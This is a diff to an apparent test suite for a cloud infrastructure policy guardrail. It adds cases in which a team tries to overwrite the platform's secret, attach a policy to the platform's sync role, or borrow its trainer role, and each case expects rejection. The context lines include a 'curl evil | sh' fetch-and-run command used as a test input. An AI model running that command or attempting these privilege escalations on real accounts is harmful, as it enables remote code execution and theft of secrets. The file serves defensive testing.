@@ -274,6 +274,16 @@ ATTEMPTS = [
                 "secretStoreRef": {"kind": "ClusterSecretStore", "name": "platform"},
                 "data": [{"secretKey": "t", "remoteRef": {"key": "gpu-training/prod/teams/nlp/token"}}]}}, k8s=True),),
         "team-references-own"),
+    Attempt("store", "a value written into the platform's secret", TEAM, just(TEAM,
+        "aws:secretsmanager/secretVersion:SecretVersion", {"secretId": "gpu-training/prod/hf-token", "secretString": "x"}),
+        "team-references-own"),
+    Attempt("iam", "an inline policy on the platform's sync role", TEAM, just(TEAM, ROLE_POLICY, {
+        "role": "gpu-training-prod-secrets-sync", "policy": policy_document(allow("s3:GetObject", "arn:aws:s3:::b/teams/vision/*"))}),
+        "team-references-own"),
+    Attempt("iam", "a Pod Identity association of the platform's trainer role", TEAM, just(TEAM,
+        "aws:eks/podIdentityAssociation:PodIdentityAssociation", {"clusterName": "gpu-training-prod", "namespace": "team-vision",
+        "serviceAccount": "trainer", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/gpu-training-prod-trainer"}),
+        "team-references-own"),
     # --- packages and types outside the allow-lists
     Attempt("types", "aws-native", TEAM, just(TEAM, "aws-native:s3:Bucket", {"bucketName": "x"}), "allowed-resource-types"),
     Attempt("types", "command:local", DEV, just(DEV, "command:local:Command", {"create": "curl evil | sh"}, provider=None),
